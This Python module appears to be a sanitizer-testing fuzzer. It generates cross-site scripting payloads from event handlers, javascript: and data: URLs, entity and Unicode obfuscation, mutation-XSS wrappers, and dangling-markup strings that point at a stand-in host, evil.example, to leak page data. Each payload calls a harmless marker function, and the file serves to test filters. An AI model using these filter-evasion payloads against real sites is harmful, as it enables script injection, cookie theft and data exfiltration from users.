"""Markup that tries to run: places for script × spellings × what it is wrapped in, by a grammar.

Each payload calls ``top.x(n)`` with its own number, so that what has run can be named.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from typing import Final

ELSEWHERE: Final = "evil.example"
"""The host that payloads would send a reader's data to."""

HANDLERS: Final = (
    "onerror onload onfocus onblur onclick onmouseover onmouseenter onpointerover ontoggle onbegin "
    "onend onrepeat onstart onfinish onanimationstart onanimationend ontransitionend onscroll "
    "onwheel oncut oncopy onpaste oninput onchange onsubmit onreset onkeydown oncontextmenu "
    "onpageshow onhashchange onmessage onpopstate onresize onbeforeprint onplay oncanplay "
    "onloadstart ondurationchange onreadystatechange onpropertychange onbeforetoggle "
    "onscrollend onsecuritypolicyviolation onfocusin ondrag ondrop onauxclick"
).split()
CARRIERS: Final = (
    "<img src=q {}>", "<img src {}>", "<image src=q {}>", "<svg {}>", "<svg><g {}/></svg>",
    "<svg><animate {} attributeName=x dur=1s>", "<svg><set {}>", "<svg><image href=q {}>",
    "<body {}>", "<html {}>", "<iframe {}>", "<details open {}>x</details>",
    "<video src=q {}>", "<video><source {}></video>", "<audio src=q {}>", "<input autofocus {}>",
    "<select autofocus {}>", "<textarea autofocus {}>", "<button autofocus {}>x</button>",
    "<keygen autofocus {}>", "<marquee {}>x</marquee>", "<object data=q {}>", "<embed src=q {}>",
    "<link rel=stylesheet href=q {}>", "<style {}>", "<script src=q {}></script>",
    "<p tabindex=1 autofocus {}>x</p>", "<a href=x {}>x</a>", "<x-y {}>x</x-y>", "<math {}>x",
    "<math><mi {}>x</mi></math>", "<frameset {}>", "<table background=q {}><td>x",
    "<div contenteditable autofocus {}>x</div>", "<dialog open {}>x", "<form {}><input type=submit>",
    "<svg><foreignObject {}>x", "<svg><discard {}>", "<isindex type=image src=q {}>",
    "<meter {}>", "<bgsound src=q {}>", "<track src=q {}>", "<picture><source srcset=q><img {}>",
    "<wbr {}>", "<time {}>x</time>", "<td {}>x", "<li {}>x", "<br {}>", "<hr {}>", "<q {}>x</q>",
)  # fmt: skip
GLUE: Final = (
    "{n}={v}", '{n}="{v}"', "{n}='{v}'", "{n} = {v}", "/{n}={v}", "{n}\n=\n{v}", "{n}\x0c={v}",
    'a="b"{n}="{v}"', "a='>'{n}={v}", 'a=">" {n}={v}', "\x00{n}={v}", "{n}\x00={v}", '"{n}={v}',
    "'{n}={v}", "<{n}={v}", "{N}={v}", "{n}=`{v}`", "\x0b{n}={v}", "xlink:{n}={v}", "a={n}={v}",
)  # fmt: skip
IN_URLS: Final = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a HREF = "{}">x</a>',
    '<a xlink:href="{}">x</a>', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<svg><a href="{}"><text y=9>x</text></a></svg>', '<math><a xlink:href="{}">x</a></math>',
    '<math href="{}">x</math>', '<math><maction actiontype="statusline#x" xlink:href="{}">x',
    '<math><mi href="{}">x</mi></math>', '<area href="{}">', '<map><area href="{}"></map>',
    '<img src="{}">', '<img srcset="{} 1x">', '<img lowsrc="{}">', '<img dynsrc="{}">',
    '<img data-src="{}">', '<img data-srcset="{} 2x">', '<img usemap="{}">', '<img longdesc="{}">',
    '<iframe src="{}"></iframe>', '<iframe data-src="{}"></iframe>', '<frame src="{}">',
    '<embed src="{}">', '<object data="{}"></object>', '<object><param name=src value="{}"></object>',
    '<form action="{}"><input type=submit autofocus></form>', '<button formaction="{}">x</button>',
    '<form><input type=image formaction="{}"></form>', '<input type=image src="{}">',
    '<video poster="{}"></video>', '<video src="{}"></video>', '<source src="{}">',
    '<picture><source srcset="{}"><img src=q></picture>', '<audio><source src="{}"></audio>',
    '<track src="{}">', '<link rel=stylesheet href="{}">', '<link rel=import href="{}">',
    '<base href="{}"><a href=x>x</a>', '<body background="{}">', '<table background="{}"><td>x',
    '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>', '<ins cite="{}">x</ins>',
    '<a ping="{}" href=x>x</a>', '<svg><use href="{}"/></svg>', '<svg><image xlink:href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/><a><text y=9>x</text></a></svg>',
    '<svg><a><animate attributeName=href from="{}" to="{}"/><text y=9>x</text></a></svg>',
    '<svg><set attributeName=href to="{}"/></svg>', '<svg><script href="{}"/></svg>',
    '<svg><feImage href="{}"/></svg>', '<script src="{}"></script>', '<applet code="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<meta http-equiv=refresh content="0;{}">',
    '<html manifest="{}">', '<p style="background:url({})">x</p>', '<style>@import "{}";</style>',
    "<style>*{{background:url({})}}</style>", '<p style="behavior:url({})">x</p>',
    '<portal src="{}"></portal>', '<amp-img src="{}"></amp-img>', '<a href="/x" target="{}">x</a>',
    '<time datetime="{}">x</time>', '<a name="{}">x</a>', '<td headers="{}">x', '<p lang="{}">x</p>',
    '<blockquote class="twitter-tweet"><a href="{}">x</a></blockquote>', '<amp-youtube src="{}">',
    '<iframe srcdoc="<a href=\'{}\'>x</a>"></iframe>', "<!--[if IE]><a href='{}'>x</a><![endif]-->",
)  # fmt: skip
WRAPS: Final = (
    "{}", "{}", "{}", "<p>{}</p>", "<b><p><b>{}", "<a><table><a>{}", "<table>{}</table>",
    "<table><tr><td>{}", "<table><caption>{}", "<select>{}</select>", "<select><option>{}",
    "<template>{}</template>", "<template><template>{}", "<noscript>{}</noscript>",
    '<noscript><p title="</noscript>{}">', '<noembed><p title="</noembed>{}">',
    "<xmp>{}</xmp>", '<xmp><p title="</xmp>{}">', "<listing>&lt;{}</listing>", "<plaintext>{}",
    '<textarea><p title="</textarea>{}">', "<title>{}</title>", '<title><p title="</title>{}">',
    '<style><p title="</style>{}">', "<style>{}</style>", '<iframe><p title="</iframe>{}">',
    '<noframes><p title="</noframes>{}">', "<iframe>{}</iframe>", "<object>{}</object>",
    "<svg>{}</svg>", "<svg><style>{}</style></svg>", '<svg><style><g title="</style>{}">',
    "<svg><title>{}</title>", '<svg></p><style><a id="</style>{}">', "<svg><desc>{}</desc>",
    "<svg><foreignObject>{}</foreignObject></svg>", "<svg><p><style><!--</style>{}-->",
    "<svg><![CDATA[{}]]></svg>", "<svg><![CDATA[><style>{}]]>", "<svg><script>{}</script>",
    "<math>{}</math>", "<math><style>{}</style>", "<math><mtext>{}</mtext>", "<math><mi>{}",
    "<math><annotation-xml encoding='text/html'>{}", "<math><annotation-xml><svg>{}",
    "<math><semantics><annotation-xml encoding='text/html'><style>{}",
    "<math><mtext><table><mglyph><style><!--</style>{}-->", "<math><mtext><mglyph><style>{}",
    "<math><mtext><table><mglyph><style><math>{}", '<math><mtext><style><p title="</style>{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<math><malignmark>{}",
    "<form><div></form><form>{}", "<math></br><style>{}", "<math><p></p><style><!--</style>{}-->",
    "<div><math><ms><table><style>{}", "<svg><math><title><style>{}", "<math><msubsup><mi>{}",
    "<!--{}-->", "<!-->{}-->", "<!--->{}-->", "<!--!>{}-->", "<!-- --!>{}-->", "<!--\x00>{}-->",
    "<![CDATA[{}]]>", "<![CDATA[>{}]]>", "<?xml >{}?>", "<?{}?>", "<!DOCTYPE x [{}]>", "<!{}>",
    "</{}>", "</ {}>", "</p title={}>", "<%{}%>", "<d<{}", "<p {}", "<p\x00>{}", "<{}", "<<{}",
    '<p title="{}">x</p>', "<p title='{}'>x</p>", "<p title={}>x</p>", '<img src=q alt="{}">',
    "<p title=`{}`>x</p>", '<p title="&quot;>{}">x</p>', '<img alt="`>{}">', '<p id="{}">x</p>',
    '<a href="https://x.example/{}">x</a>', '<img src="https://x.example/{}">', "<q cite='{}'>x</q>",
    '<img src="https://x.example/?a=&quot;&gt;{}">', '<a href="https://x.example/#{}">x</a>',
    '<abbr title="{}">x</abbr>', '<td abbr="{}">x', "<code>{}</code>", "<pre>{}</pre>",
    "<ruby><rt>{}</rt></ruby>", "<details><summary>{}", "<dl><dt>{}", "<h1>{}</h1>", "<ul><li>{}",
    "<figure><img src=q alt='{}'><figcaption>{}", "<video>{}</video>", "<audio>{}", "<canvas>{}",
    "<button>{}</button>", "<dialog>{}", "<marquee>{}", "<font>{}", "<nobr>{}", "<xml>{}</xml>",
    "<iframe srcdoc='{}'></iframe>", '<iframe srcdoc="{}">', "<embed>{}", "<frameset>{}",
    '<blockquote class="twitter-tweet">{}</blockquote>', "<div hidden>{}", "<head>{}</head>",
    '<script type="application/json">{}</script>', "<script>{}</script>", "<body>{}", "</body>{}",
    "<noscript><img src='{}'></noscript>", "<a id=x name=y>{}</a><a id=x>",
    '<iframe src="https://www.youtube.com/embed/{}"></iframe>',
    '<iframe title="{}" src="https://www.youtube.com/embed/x"></iframe>',
)  # fmt: skip
DANGLING: Final = (
    f"<img src='https://{ELSEWHERE}/?", f'<a href="https://{ELSEWHERE}/?', "<base target='",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/?",
    f"<form action=https://{ELSEWHERE}/><button>x<textarea name=a>", f"<style>@import '//{ELSEWHERE}/",
    f"<link rel=prefetch href=https://{ELSEWHERE}/>", f"<link rel=dns-prefetch href=//{ELSEWHERE}>",
    f"<base href=https://{ELSEWHERE}/>", f"<table background=https://{ELSEWHERE}/ >",
    f"<iframe src=https://{ELSEWHERE}/></iframe>", f"<script src=//{ELSEWHERE}/></script>",
    f"<a href=x ping=https://{ELSEWHERE}/>x</a>", f"<object data=https://{ELSEWHERE}/>",
    f"<style>*{{background:url(https://{ELSEWHERE}/)}}</style>", f"<video src=//{ELSEWHERE}/ autoplay>",
    f"<svg><use href=https://{ELSEWHERE}/#x>", f"<p style=background:url(//{ELSEWHERE}/)>x",
    "<form name=body><input name=firstChild>", "<img name=getElementById>", "<a id=x><a id=x name=y>",
    "<iframe name=top srcdoc=x>", "<form id=documentElement>", "<img id=cookie name=cookie>",
    "<textarea>", "<plaintext>", "<xmp>", "<!--", "<script>", "<style>", "<title>", "<select>",
    "<svg>", "<math>", "<template>", "<table>", "<p title='", '<p title="', "</div></div></article>",
    "]]>", "]]></content>", "-->", "</script>", "<?", "<![CDATA[", "&#0;", "&#xD800;", "&#x1F;",
    "\ufffe\uffff\x00\x01\x0b\x0c\x1b\x7f\x85\x9f", "</item></channel></rss>", "</entry></feed>",
)  # fmt: skip


def _entities(text: str, dice: random.Random) -> str:
    forms: tuple[Callable[[str], str], ...] = (
        lambda c: f"&#{ord(c)};", lambda c: f"&#x{ord(c):x};", lambda c: f"&#{ord(c):07d}",
        lambda c: f"&#X{ord(c):06X};", lambda c: c,
    )  # fmt: skip
    return "".join(dice.choice(forms)(c) for c in text)


def _split(text: str, dice: random.Random) -> str:
    at = dice.randrange(1, 10)
    gap = dice.choice(
        ("\t", "\n", "\r\n", "&Tab;", "&NewLine;", "&#9;", "&#10", "&#13;", "\x00", "&#0;", "\x01",
         "&shy;", "\u200b", "\ufeff", "/**/", "\\", "%0a")
    )  # fmt: skip
    return text[:at] + gap + text[at:]


def _lead(text: str, dice: random.Random) -> str:
    return (
        dice.choice(
            (" ", "\t", "\n", "\x01", "\x0c", "\x1f", "&#1;", "&#14;", "&#32;", "\u00a0", "\u3000",
             "\u2028", "\ufeff", "&#xfeff;", "\x00", "&nbsp;", "//", "\\", "feed:", "view-source:",
             "jar:", "blob:", "filesystem:", "url(", "http:", "https://x.example/../")
        )
        + text
    )  # fmt: skip


SPELLINGS: Final[tuple[Callable[[str, random.Random], str], ...]] = (
    lambda text, _dice: text,
    lambda text, dice: "".join(dice.choice((c.upper(), c.lower())) for c in text[:11]) + text[11:],
    _entities,
    _split,
    _split,
    _lead,
    lambda text, _dice: text.replace(":", "&colon;", 1),
    lambda text, _dice: text.replace(":", "%3a", 1),
    lambda text, dice: _lead(_split(text, dice), dice),
    lambda text, _dice: text.replace("s", "\u017f").replace("k", "\u212a"),
    lambda text, _dice: text.replace("(", "&lpar;").replace(")", "&rpar;"),
)


def _script_urls(code: str) -> tuple[str, ...]:
    tag = f"<script>{code}</script>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>"
    packed = base64.b64encode(tag.encode()).decode()
    drawn = base64.b64encode(svg.encode()).decode()
    return (
        f"javascript:{code}", f"javascript://%0a{code}", f"javascript:void({code})",
        f"vbscript:{code}", f"livescript:{code}", f"mocha:{code}", f"javascript:'{tag}'",
        f"data:text/html,{tag}", f"data:text/html;base64,{packed}", f"data:,{tag}",
        f"data:image/svg+xml,{svg}", f"data:image/svg+xml;base64,{drawn}",
        f"data:image/png,{tag}", f"data:image/png;charset=x,{tag}", f"data:image/svg+xml;x,{svg}",
        f"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'>{tag}</html>",
        f"data:text/javascript,{code}", f"data:text/xml,{svg}", f"data:image/x,text/html;,{tag}",
        f"data:text/html;image/png,{tag}", f"data: text/html,{tag}", f"DATA:text/html,{tag}",
        f"feed:javascript:{code}", f"x:javascript:{code}", f"file:///etc/passwd#{code}",
        f"intent:#Intent;S.x={code};end", f"ms-x:{code}", f"tel:javascript:{code}",
        f"mailto:x?body={tag}", f"https://x.example/{tag}", f'https://x.example/"onerror="{code}',
        f"https://x.example/' onmouseover='{code}", f"//x.example/`onload={code}`",
        f"https://x.example/ 1x, javascript:{code} 2x", f"#javascript:{code}",
    )  # fmt: skip


def _vector(dice: random.Random, number: int) -> str:
    code = f"top.x({number})"
    match dice.randrange(10):
        case 0 | 1 | 2:
            glue = dice.choice(GLUE)
            value = _entities(code, dice) if dice.random() < 0.2 else code
            name = dice.choice(HANDLERS)
            handler = glue.replace("{n}", name).replace("{N}", name.upper()).replace("{v}", value)
            return dice.choice(CARRIERS).replace("{}", handler)
        case 3 | 4 | 5 | 6:
            url = dice.choice(SPELLINGS)(dice.choice(_script_urls(code)), dice)
            return dice.choice(IN_URLS).replace("{{", "{").replace("}}", "}").replace("{}", url)
        case 7:
            return dice.choice(
                (f"<script>{code}</script>", f"<SCRIPT\x0c>{code}</SCRIPT>", f"<script/x>{code}</script >",
                 f"<svg><script>{code}</script>", f"<scr<script>ipt>{code}</scr</script>ipt>",
                 f"<script\x00>{code}</script>", f"<math><script>{code}</script>", f"<sc\u0131pt>{code}",
                 f"&lt;script&gt;{code}&lt;/script&gt;", f"&lt;img src=q onerror={code}&gt;",
                 f"&amp;lt;img src=q onerror={code}&amp;gt;", f"<script>{code}", f"<x:script>{code}",
                 f"+ADw-script+AD4-{code}+ADw-/script+AD4-", f"%3Cscript%3E{code}%3C/script%3E",
                 f"\\u003cscript\\u003e{code}\\u003c/script\\u003e", f"\uff1cscript\uff1e{code}",
                 f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={code}>")
            )  # fmt: skip
        case 8:
            return f"{dice.choice(DANGLING)}{_vector(dice, number)}"
    return dice.choice(DANGLING)


def payloads(how_many: int, seed: int = 0) -> Iterator[str]:
    """Payloads, always the same ones for a seed."""
    for number in range(how_many):
        # of one number, so that any of them can be made again without those before it
        dice = random.Random(f"{seed}/{number}")
        html = _vector(dice, number)
        for _ in range(dice.choice((0, 1, 1, 2, 2, 3))):
            html = dice.choice(WRAPS).replace("{}", html)
        yield html
